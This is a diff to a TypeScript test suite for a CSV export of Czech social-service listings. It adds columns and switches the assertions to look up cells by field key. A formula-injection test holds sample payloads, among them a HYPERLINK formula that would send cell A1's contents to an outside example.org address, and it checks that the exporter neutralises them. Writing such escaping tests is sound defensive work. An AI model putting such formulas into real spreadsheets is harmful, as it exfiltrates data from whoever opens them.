@@ -7,6 +7,11 @@ import { fixtureCatalogueWithDistricts } from '../fixtures/catalogue/catalogue.j
 import { parseCsv } from '../fixtures/print/parse-csv.js';
 import { fixtureModel, fixtureService, formulaService, today, trickyService } from '../fixtures/print/services.js';
 
+/** The column of a field, by its key: the tests read cells by what they hold, not by position. */
+function column(key: (typeof serviceFieldKeys)[number]): number {
+  return serviceFieldKeys.indexOf(key);
+}
+
 const cells: Array<[string, string, string]> = [
   ['plain text stays as it is', 'Pečovatelská služba', 'Pečovatelská služba'],
   ['a comma needs no quotes with ; as separator', 'Kelč, Zašová', 'Kelč, Zašová'],
@@ -43,7 +48,7 @@ test('the file starts with a UTF-8 byte-order mark and ends every line with CRLF
   assert.equal(csvMimeType, 'text/csv;charset=utf-8');
 });
 
-test('Czech header, one row per service in the given order, 15 columns separated by ;', () => {
+test('Czech header, one row per service in the given order, 18 columns separated by ;', () => {
   const services = fixtureModel().services;
   const rows = parseCsv(servicesCsv(services, 'cs').slice(1));
   assert.deepEqual(rows[0], [
@@ -51,11 +56,14 @@ test('Czech header, one row per service in the given order, 15 columns separated
     'Poskytovatel',
     'Druh služby',
     'Forma',
+    'Popis',
     'Pro koho',
     'Registrovaná kapacita',
     'Pro obyvatele celých okresů',
     'Pro obyvatele obcí',
+    'Území působnosti',
     'Adresa',
+    'Provozní doba',
     'Telefon',
     'E-mail',
     'Web',
@@ -75,11 +83,14 @@ test('a service row: capacity with its form and unit, contacts in their columns,
     'Testovací poskytovatel Alfa',
     'pečovatelská služba',
     'terénní',
+    'Syntetický záznam: pomoc s hygienou, donáška obědů a nákupy v domácnosti klienta.',
     'osoby se zdravotním postižením, senioři',
     'terénní: 12 klientů',
     '',
     'Kelč, Lešná, Valašské Meziříčí',
+    '',
     'Testovací 1, Krásno nad Bečvou, 757 01 Valašské Meziříčí',
+    '',
     "'+420 000 000 001",
     'pecovatelska@example.cz',
     'https://www.example.cz/pecovatelska',
@@ -94,9 +105,10 @@ test('English header and values', () => {
   const service = fixtureService('testovaci-poradna', 'en');
   const [header, row] = parseCsv(servicesCsv([service], 'en').slice(1));
   assert.equal(header?.[0], 'Service name');
-  assert.equal(header?.[5], 'Registered capacity');
-  assert.equal(row?.[5], 'outpatient: 2 clients, field: 5 interventions');
-  assert.equal(row?.[12], 'yes');
+  assert.equal(header?.[column('capacity')], 'Registered capacity');
+  assert.equal(header?.[column('openingHours')], 'Opening hours');
+  assert.equal(row?.[column('capacity')], 'outpatient: 2 clients, field: 5 interventions');
+  assert.equal(row?.[column('registered')], 'yes');
 });
 
 test('round trip: Czech text, emoji, quotes, separators and line breaks come back unchanged', () => {
@@ -109,19 +121,19 @@ test('round trip: Czech text, emoji, quotes, separators and line breaks come bac
   assert.deepEqual(rows[1], expected);
   assert.equal(rows[1]?.[0], 'Testovací „Řeřicha“; služba 👵🏻 s ů, ď, ť, ň');
   assert.equal(rows[1]?.[1], 'Testovací spolek "Úsměv", z. s.');
-  assert.equal(rows[1]?.[8], 'Dům s\r\nCRLF, Testovací 1;\nKrásno nad Bečvou\nTestovací 2, 757 01 Valašské Meziříčí');
-  assert.equal(rows[1]?.[11], 'https://www.example.cz/a?b=1;c=2');
+  assert.equal(rows[1]?.[column('addresses')], 'Dům s\r\nCRLF, Testovací 1;\nKrásno nad Bečvou\nTestovací 2, 757 01 Valašské Meziříčí');
+  assert.equal(rows[1]?.[column('web')], 'https://www.example.cz/a?b=1;c=2');
   // Through bytes and back, as a file on disk would go.
   assert.equal(Buffer.from(servicesCsv([service], 'cs'), 'utf8').toString('utf8'), servicesCsv([service], 'cs'));
 });
 
 test('formula injection: every cell that would run as a formula starts with an apostrophe', () => {
   const [, row] = parseCsv(servicesCsv([formulaService()], 'cs').slice(1));
-  assert.equal(row?.[0], '\'=HYPERLINK("https://example.org/?x="&A1;"Klikněte")');
-  assert.equal(row?.[1], "'@SUM(1+1)");
-  assert.equal(row?.[8], "'-2+3");
-  assert.equal(row?.[10], "'\tx@example.cz");
-  assert.equal(row?.[11], "'\rhttps://example.org");
+  assert.equal(row?.[column('name')], '\'=HYPERLINK("https://example.org/?x="&A1;"Klikněte")');
+  assert.equal(row?.[column('provider')], "'@SUM(1+1)");
+  assert.equal(row?.[column('addresses')], "'-2+3");
+  assert.equal(row?.[column('emails')], "'\tx@example.cz");
+  assert.equal(row?.[column('web')], "'\rhttps://example.org");
   for (const cell of row ?? []) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
 });
 
